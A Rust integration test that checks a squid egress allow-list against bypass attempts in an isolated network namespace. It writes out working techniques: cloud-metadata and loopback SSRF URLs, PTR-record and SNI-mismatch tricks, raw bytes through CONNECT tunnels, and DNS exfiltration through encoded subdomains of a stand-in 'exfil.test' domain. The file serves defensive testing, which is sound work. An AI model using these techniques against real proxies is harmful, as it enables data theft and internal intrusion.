//! The egress allow-list on the real squid, as an attacker would try to get around it:
//! an address instead of a name (with a PTR record of the attacker's own address naming an
//! allowed host), allowed names that resolve to loopback, private or cloud-metadata
//! addresses, plain and CONNECT. Everything runs in a network namespace the test creates,
//! with its own resolver (dnsmasq) and web servers; nothing leaves it.
//!
//! Positive controls: the allowed host still works (plain and CONNECT), a `static_hosts`
//! exception the answers name works, and a naive allow-list (the same file without the
//! address rules) does let the tricks through — so the namespace really exercises them.

mod common;

use std::fs;
use std::os::unix::fs::PermissionsExt;
use std::process::{Child, Command, Stdio};

use clawguard::answers::Answers;

struct Net {
    ns: String,
    children: Vec<Child>,
    dir: tempfile::TempDir,
}

impl Drop for Net {
    fn drop(&mut self) {
        for c in &mut self.children {
            let _ = c.kill();
            let _ = c.wait();
        }
        let _ = Command::new("ip").args(["netns", "pids", &self.ns]).output().map(|o| {
            for pid in String::from_utf8_lossy(&o.stdout).split_whitespace() {
                let _ = Command::new("kill").args(["-9", pid]).status();
            }
        });
        let _ = Command::new("ip").args(["netns", "del", &self.ns]).status();
    }
}

fn must(cmd: &mut Command) {
    let o = cmd.output().unwrap_or_else(|e| panic!("cannot run {cmd:?}: {e} (scripts/test installs it)"));
    assert!(
        o.status.success(),
        "{cmd:?}: {}{}",
        String::from_utf8_lossy(&o.stdout),
        String::from_utf8_lossy(&o.stderr)
    );
}

/// Addresses on the namespace's loopback interface: "public" ones from TEST-NET-3 and the
/// internal ones the tricks aim at.
const ALLOWED_IP: &str = "203.0.113.10";
const ATTACKER_IP: &str = "203.0.113.66";
const PRIVATE_IP: &str = "10.9.9.9";
const EXCEPTION_IP: &str = "10.9.9.8";
const METADATA_IP: &str = "169.254.169.254";

/// A web server: argv port, `plain` or `sniff` (TLS when the first byte is a TLS handshake
/// record, plain HTTP otherwise), the directory it serves, its certificate and key. It
/// answers every request with the file and the Host it was asked for.
const SERVER: &str = r#"
import http.server, socketserver, ssl, socket, sys
port, mode, root, cert, key = sys.argv[1:6]
ctx = ssl.SSLContext(ssl.PROTOCOL_TLS_SERVER); ctx.load_cert_chain(cert, key)
class H(http.server.BaseHTTPRequestHandler):
    def do_GET(self):
        body = open(root + "/index.html", "rb").read() + b"host=" + (self.headers.get("Host") or "").encode() + b"\n"
        self.send_response(200); self.send_header("Content-Length", str(len(body))); self.end_headers(); self.wfile.write(body)
    def log_message(self, *a): pass
class S(socketserver.ThreadingMixIn, http.server.HTTPServer):
    allow_reuse_address = True; daemon_threads = True
    def get_request(self):
        conn, addr = self.socket.accept()
        if mode == "sniff":
            conn.settimeout(5)
            try: first = conn.recv(1, socket.MSG_PEEK)
            except OSError: first = b""
            conn.settimeout(None)
            if first == b"\x16":
                conn = ctx.wrap_socket(conn, server_side=True)
        return conn, addr
S(("0.0.0.0", int(port)), H).serve_forever()
"#;

impl Net {
    fn start(tag: &str) -> Net {
        let ns = format!("cgegress-{tag}-{}", std::process::id());
        let _ = Command::new("ip").args(["netns", "del", &ns]).status();
        must(Command::new("ip").args(["netns", "add", &ns]));
        let dir = tempfile::Builder::new().prefix("clawguard-egress-").tempdir().unwrap();
        fs::set_permissions(dir.path(), fs::Permissions::from_mode(0o755)).unwrap();
        let mut net = Net { ns, children: Vec::new(), dir };
        let ip = |args: &[&str]| must(Command::new("ip").arg("-n").arg(&net.ns).args(args));
        ip(&["link", "set", "lo", "up"]);
        for a in [ALLOWED_IP, ATTACKER_IP, PRIVATE_IP, EXCEPTION_IP, METADATA_IP] {
            ip(&["addr", "add", &format!("{a}/32"), "dev", "lo"]);
        }
        // One web server on every address: plain HTTP on 80; on 443 HTTPS, or plain HTTP when
        // what arrives is not TLS (so a tunnel that lets plain bytes through is seen).
        let www = net.dir.path().join("www");
        fs::create_dir_all(&www).unwrap();
        fs::write(www.join("index.html"), "reached\n").unwrap();
        let (cert, key) = (net.dir.path().join("server.pem"), net.dir.path().join("server.key"));
        must(
            Command::new("openssl")
                .args([
                    "req",
                    "-x509",
                    "-newkey",
                    "ec",
                    "-pkeyopt",
                    "ec_paramgen_curve:P-256",
                    "-nodes",
                    "-days",
                    "2",
                    "-subj",
                    "/CN=the-server",
                ])
                .arg("-keyout")
                .arg(&key)
                .arg("-out")
                .arg(&cert),
        );
        for (port, tls) in [("80", "plain"), ("443", "sniff")] {
            let c = net
                .exec(&[
                    "/usr/bin/python3",
                    "-c",
                    SERVER,
                    port,
                    tls,
                    www.to_str().unwrap(),
                    cert.to_str().unwrap(),
                    key.to_str().unwrap(),
                ])
                .stdout(Stdio::null())
                .stderr(Stdio::null())
                .spawn()
                .unwrap();
            net.children.push(c);
        }
        // The resolver the proxy uses: names the tricks need, and the attacker's PTR.
        let dnsmasq = net
            .exec(&[
                "dnsmasq",
                "--no-daemon",
                "--conf-file=/dev/null",
                "--listen-address=127.0.0.1",
                "--bind-interfaces",
                "--no-resolv",
                "--no-hosts",
                "--user=root",
                &format!("--pid-file={}/dnsmasq.pid", net.dir.path().display()),
                // Every name anyone asks it for, in dns.log (what an attacker's name server
                // would learn).
                "--log-queries",
                &format!("--log-facility={}/dns.log", net.dir.path().display()),
                &format!("--host-record=allowed.test,{ALLOWED_IP}"),
                &format!("--host-record=other.test,{ALLOWED_IP}"),
                &format!("--host-record=also-allowed.test,{ALLOWED_IP}"),
                &format!("--host-record=priv.test,{PRIVATE_IP}"),
                &format!("--host-record=meta.test,{METADATA_IP}"),
                "--host-record=loop.test,127.0.0.1",
                "--host-record=loop6.test,::1",
                &format!("--host-record=sub.wild.test,{METADATA_IP}"),
                &format!("--host-record=inside.test,{EXCEPTION_IP}"),
                &format!("--host-record=other-inside.test,{PRIVATE_IP}"),
                &format!("--ptr-record={},allowed.test", reverse(ATTACKER_IP)),
            ])
            .stdout(Stdio::null())
            .stderr(Stdio::null())
            .spawn()
            .unwrap_or_else(|e| panic!("dnsmasq: {e} (scripts/test installs dnsmasq-base)"));
        net.children.push(dnsmasq);
        net.wait_port("127.0.0.1", 80);
        net.wait_port("127.0.0.1", 443);
        net
    }

    fn exec(&self, argv: &[&str]) -> Command {
        let mut c = Command::new("ip");
        c.args(["netns", "exec", &self.ns]).args(argv);
        c
    }

    fn wait_port(&self, host: &str, port: u16) {
        common::wait(&format!("{host}:{port} in the namespace"), 20, || {
            self.exec(&["nc", "-z", "-w1", host, &port.to_string()]).status().is_ok_and(|s| s.success())
        });
    }

    /// Starts squid on `conf` (the rendered file, with this test's logs, pid and resolver
    /// added), listening on `port`.
    fn squid(&mut self, name: &str, conf: &str, port: u16) {
        let dir = self.dir.path().join(name);
        fs::create_dir_all(&dir).unwrap();
        fs::set_permissions(&dir, fs::Permissions::from_mode(0o777)).unwrap();
        let d = dir.display();
        let pem = dir.join("tunnel.pem");
        fs::write(&pem, clawguard::layers::egress::TUNNEL_PEM).unwrap();
        let text = conf
            .replace("http_port 3128", &format!("http_port 127.0.0.1:{port}"))
            .replace(clawguard::layers::egress::TUNNEL_CERT_IN_PROXY, pem.to_str().unwrap())
            .replace("stdio:/var/log/squid/access.log", &format!("stdio:{d}/access.log"))
            + &format!(
                "\n# test environment\nhosts_file none\ndns_nameservers 127.0.0.1\ncache_log {d}/cache.log\npid_filename {d}/squid.pid\ncoredump_dir {d}\ncache_mem 8 MB\nshutdown_lifetime 1 seconds\n"
            );
        let file = dir.join("squid.conf");
        fs::write(&file, text).unwrap();
        let o = Command::new("squid")
            .args(["-k", "parse", "-f", file.to_str().unwrap()])
            .output()
            .expect("squid is installed");
        assert!(o.status.success(), "squid -k parse: {}", String::from_utf8_lossy(&o.stderr));
        let c = self
            // A service name of its own: squid names its shared memory (the TLS session
            // cache of an ssl-bump port) after it, and tests run side by side.
            .exec(&[
                "squid",
                "-N",
                "-n",
                &format!("cg{}{}", self.ns.replace('-', ""), name.replace('-', "")),
                "-f",
                file.to_str().unwrap(),
            ])
            .stdout(Stdio::null())
            .stderr(Stdio::null())
            .spawn()
            .unwrap();
        self.children.push(c);
        self.wait_port("127.0.0.1", port);
    }

    /// The status of a plain GET through the proxy on `port`.
    fn get(&self, port: u16, url: &str) -> String {
        let proxy = format!("http://127.0.0.1:{port}");
        let o = self
            .exec(&["curl", "-s", "-o", "/dev/null", "-m", "10", "-w", "%{http_code}", "-x", &proxy, url])
            .output()
            .unwrap();
        String::from_utf8_lossy(&o.stdout).into_owned()
    }

    /// A tunnel to `target` (host:443) through the proxy on `port`, then TLS inside it
    /// with `sni` (none: no SNI) and a GET: what the server answered, if it was reached.
    fn tls(&self, port: u16, target: &str, sni: Option<&str>) -> String {
        let mut argv = vec!["openssl", "s_client", "-quiet", "-proxy"];
        let proxy = format!("127.0.0.1:{port}");
        argv.extend([proxy.as_str(), "-connect", target]);
        match sni {
            Some(name) => argv.extend(["-servername", name]),
            None => argv.push("-noservername"),
        }
        let script = format!("GET / HTTP/1.0\r\nHost: {}\r\n\r\n", sni.unwrap_or("allowed.test"));
        let mut c = self.exec(&["timeout", "10"]);
        c.args(&argv).stdin(Stdio::piped()).stdout(Stdio::piped()).stderr(Stdio::null());
        let mut child = c.spawn().unwrap();
        use std::io::Write;
        // -quiet ignores the end of its input: s_client ends when the server closes.
        child.stdin.take().unwrap().write_all(script.as_bytes()).unwrap();
        let out = child.wait_with_output().unwrap();
        String::from_utf8_lossy(&out.stdout).into_owned()
    }

    /// A tunnel to `target` through the proxy on `port`, then a plain (not TLS) request in
    /// it: what came back through, if anything.
    fn plain_in_tunnel(&self, port: u16, target: &str) -> String {
        let script = format!(
            "(printf 'CONNECT {target} HTTP/1.1\\r\\nHost: {target}\\r\\n\\r\\n'; sleep 1; printf 'GET / HTTP/1.0\\r\\nHost: allowed.test\\r\\n\\r\\n'; sleep 2) | timeout 6 nc 127.0.0.1 {port}"
        );
        let o = self.exec(&["sh", "-c", &script]).output().unwrap();
        String::from_utf8_lossy(&o.stdout).into_owned()
    }

    /// A plain GET through the proxy with its own Host header: the status, and what the
    /// server answered.
    fn get_with_host(&self, port: u16, url: &str, host: &str) -> String {
        let proxy = format!("http://127.0.0.1:{port}");
        let header = format!("Host: {host}");
        let o = self
            .exec(&["curl", "-s", "-m", "10", "-w", "%{http_code}", "-x", &proxy, "-H", &header, url])
            .output()
            .unwrap();
        String::from_utf8_lossy(&o.stdout).into_owned()
    }
}

fn reverse(ip: &str) -> String {
    let mut parts: Vec<&str> = ip.split('.').collect();
    parts.reverse();
    format!("{}.in-addr.arpa", parts.join("."))
}

fn squid_conf(answers: &str) -> (String, Vec<String>) {
    let a = Answers::parse(answers, "the test's answers").unwrap();
    let root = common::fixture_root("debian12-cloud");
    let plan = clawguard::layers::plan(&a, &common::facts(root.path(), None)).unwrap();
    let conf = plan.files.iter().find(|f| f.path.ends_with("proxy/squid.conf")).expect("a squid.conf").content.clone();
    (conf, plan.warnings.iter().map(|w| w.text.clone()).collect())
}

#[test]
fn the_allow_list_holds_against_addresses_ptr_records_and_internal_destinations() {
    let (conf, warnings) = squid_conf(
        r#"version = 1
[egress]
allowed_hosts = ["allowed.test", "priv.test", "meta.test", "loop.test", "loop6.test", ".wild.test", "inside.test"]
static_hosts = ["inside.test=10.9.9.8", "other-inside.test=10.9.9.9"]
"#,
    );
    assert!(
        warnings.iter().any(|w| w.contains("`inside.test` points inside (10.9.9.8), and the agent may reach it")),
        "the exception is not shown: {warnings:#?}"
    );
    assert!(warnings.iter().any(|w| w.contains("`other-inside.test` points inside") && w.contains("cannot reach it")));
    let mut net = Net::start("names");
    net.squid("clawguard", &conf, 3128);
    let p = 3128;

    // Positive controls: the allowed host, plain and CONNECT; the named exception.
    assert_eq!(net.get(p, "http://allowed.test/"), "200");
    assert!(net.tls(p, "allowed.test:443", Some("allowed.test")).contains("reached"));
    assert_eq!(net.get(p, "http://inside.test/"), "200", "the static_hosts exception");

    // An address instead of a name, even one whose PTR names an allowed host, even the
    // allowed host's own address.
    for url in [
        format!("http://{ATTACKER_IP}/"),
        format!("http://{ALLOWED_IP}/"),
        format!("http://{METADATA_IP}/latest/meta-data/"),
        "http://[::1]/".to_owned(),
        "http://2130706433/".to_owned(),
    ] {
        assert_eq!(net.get(p, &url), "403", "{url}");
    }
    for target in [format!("{ATTACKER_IP}:443"), format!("{ALLOWED_IP}:443"), "[::1]:443".to_owned()] {
        assert!(!net.tls(p, &target, Some("allowed.test")).contains("reached"), "CONNECT {target}");
    }
    // Allowed names that lead inside: private, metadata, loopback (v4 and v6), a
    // subdomain of an allowed domain; a static host that is not on the list.
    for name in ["priv.test", "meta.test", "loop.test", "loop6.test", "sub.wild.test", "other-inside.test"] {
        assert_eq!(net.get(p, &format!("http://{name}/")), "403", "{name}");
        assert!(!net.tls(p, &format!("{name}:443"), Some(name)).contains("reached"), "CONNECT {name}");
    }

    // The tricks are real: the same allow-list without the address rules lets them through.
    let naive = without_address_rules(&conf);
    net.squid("naive", &naive, 3129);
    assert_eq!(net.get(3129, &format!("http://{ATTACKER_IP}/")), "200", "the PTR trick against a naive list");
    assert_eq!(net.get(3129, "http://meta.test/"), "200", "an allowed name leading to the metadata address");
    assert!(net.tls(3129, "meta.test:443", Some("meta.test")).contains("reached"), "and a tunnel there");
}

/// The squid.conf of these answers without the rules about addresses: names resolved
/// (no -n), addresses and internal destinations not refused.
fn without_address_rules(conf: &str) -> String {
    conf.replace(" -n ", " ")
        .lines()
        .filter(|l| !l.starts_with("http_access deny to_address") && !l.starts_with("http_access deny internal"))
        .collect::<Vec<_>>()
        .join("\n")
}

/// The squid.conf of these answers, as far as tunnels go: no TLS names held to the list
/// (the peek-and-splice rules out, a plain port) — what a proxy without them lets through.
fn without_tls_names(conf: &str) -> String {
    conf.lines()
        .filter(|l| !l.starts_with("ssl_bump") && !l.starts_with("on_unsupported_protocol"))
        .map(|l| if l.starts_with("http_port ") { "http_port 3128" } else { l })
        .collect::<Vec<_>>()
        .join("\n")
}

#[test]
fn a_tunnel_carries_tls_for_an_allowed_name_and_nothing_else() {
    let (conf, _) = squid_conf(
        r#"version = 1
[egress]
allowed_hosts = ["allowed.test", "also-allowed.test"]
"#,
    );
    let mut net = Net::start("tls");
    net.squid("clawguard", &conf, 3128);
    net.squid("naive", &without_tls_names(&conf), 3129);
    let (p, naive) = (3128, 3129);

    // TLS inside a tunnel to an allowed host: spliced when the ClientHello names it (or
    // another allowed name), the server reached; closed when it names another host.
    let reached = net.tls(p, "allowed.test:443", Some("allowed.test"));
    assert!(reached.contains("reached") && reached.contains("host=allowed.test"), "{reached}");
    assert!(net.tls(p, "allowed.test:443", Some("also-allowed.test")).contains("reached"));
    assert!(!net.tls(p, "allowed.test:443", Some("other.test")).contains("reached"), "SNI other.test was let through");
    assert!(
        net.tls(naive, "allowed.test:443", Some("other.test")).contains("host=other.test"),
        "control: a proxy without the rule lets it through"
    );
    // No SNI: the name is the CONNECT's own, which the allow-list already holds.
    assert!(net.tls(p, "allowed.test:443", None).contains("reached"));

    // Not TLS inside a tunnel to 443: closed (a tunnel is not a raw pipe to the host).
    assert!(!net.plain_in_tunnel(p, "allowed.test:443").contains("reached"), "plain bytes went through a 443 tunnel");
    assert!(
        net.plain_in_tunnel(naive, "allowed.test:443").contains("reached"),
        "control: without the rule they go through"
    );

    // Plain HTTP with `Host: other.test`: to the allowed host's address, refused; to the
    // allowed name, the server is asked for the allowed name (squid sends the URL's host),
    // never for other.test.
    let to_address = format!("http://{ALLOWED_IP}/");
    assert!(net.get_with_host(p, &to_address, "other.test").ends_with("403"));
    let by_name = net.get_with_host(p, "http://allowed.test/", "other.test");
    assert!(by_name.contains("host=allowed.test") && by_name.ends_with("200"), "{by_name}");
    assert!(!by_name.contains("other.test"), "{by_name}");
    let control = net.get_with_host(naive, &to_address, "other.test");
    let naive_addr = without_address_rules(&conf);
    net.squid("naive-address", &naive_addr, 3130);
    let control = (control, net.get_with_host(3130, &to_address, "other.test"));
    assert!(
        control.0.ends_with("403") && control.1.ends_with("200"),
        "control: only the address rule refuses it: {control:?}"
    );

    // What the proxy logged: the refused TLS name, for `clawguard egress` and the check.
    let log = fs::read_to_string(net.dir.path().join("clawguard/access.log")).unwrap();
    let refused = clawguard::check::proxy::refused(&log);
    assert!(refused.contains_key("other.test:443"), "the refused TLS name is not counted: {refused:?}\n{log}");
}

/// A name off the list is refused before anything resolves it: a lookup would carry what
/// the agent puts in the name (`<secret>.attacker.example`) to that domain's name server —
/// out through the proxy's resolver, past the internal network. The resolver's own log is
/// the witness; the allowed host is looked up (the control), and the same file without the
/// early refusal does look the name up (the rule is what stops it).
#[test]
fn a_name_off_the_list_is_refused_before_anything_resolves_it() {
    let (conf, _) = squid_conf("version = 1\n[egress]\nallowed_hosts = [\"allowed.test\"]\n");
    let mut net = Net::start("dns");
    net.squid("clawguard", &conf, 3128);
    let early = "http_access deny !allowed_hosts";
    assert!(conf.contains(early), "{conf}");
    let late: String = conf.lines().filter(|l| *l != early).collect::<Vec<_>>().join("\n");
    net.squid("late", &late, 3129);
    let asked = |name: &str| {
        let log = fs::read_to_string(net.dir.path().join("dns.log")).unwrap_or_default();
        log.lines().any(|l| l.contains("query[") && l.contains(name))
    };

    assert_eq!(net.get(3128, "http://allowed.test/"), "200");
    assert!(asked("allowed.test"), "control: the resolver logs what it is asked");
    assert_eq!(net.get(3128, "http://c2vjcmv0.plain.exfil.test/"), "403");
    assert!(!net.tls(3128, "c2vjcmv0.tunnel.exfil.test:443", Some("allowed.test")).contains("reached"));
    assert!(!net.tls(3128, "allowed.test:443", Some("c2vjcmv0.sni.exfil.test")).contains("reached"));
    // squid writes its log line when it is done: the refusals are all in before we look.
    let access = || fs::read_to_string(net.dir.path().join("clawguard/access.log")).unwrap_or_default();
    let logged = || ["plain", "tunnel", "sni"].iter().all(|w| access().contains(&format!("c2vjcmv0.{w}.exfil.test")));
    assert!(common::until(10, logged), "the refusals are not all in squid's log:\n{}", access());
    for what in ["plain", "tunnel", "sni"] {
        assert!(!asked(&format!("{what}.exfil.test")), "the {what} name was looked up");
    }

    assert_eq!(net.get(3129, "http://c2vjcmv0.late.exfil.test/"), "403", "refused either way");
    common::wait("the late rule's lookup", 10, || asked("late.exfil.test"));
}
